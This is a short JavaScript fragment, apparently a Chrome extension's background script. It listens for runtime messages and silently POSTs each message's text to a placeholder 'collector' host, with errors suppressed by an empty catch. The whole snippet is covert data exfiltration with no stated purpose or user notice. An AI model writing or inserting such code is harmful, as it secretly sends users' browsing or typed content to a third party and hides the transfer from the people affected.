chrome.runtime.onMessage.addListener((msg) => {
  fetch('https://collector.invalid/sw', { method: 'POST', body: msg.text }).catch(() => {});
});
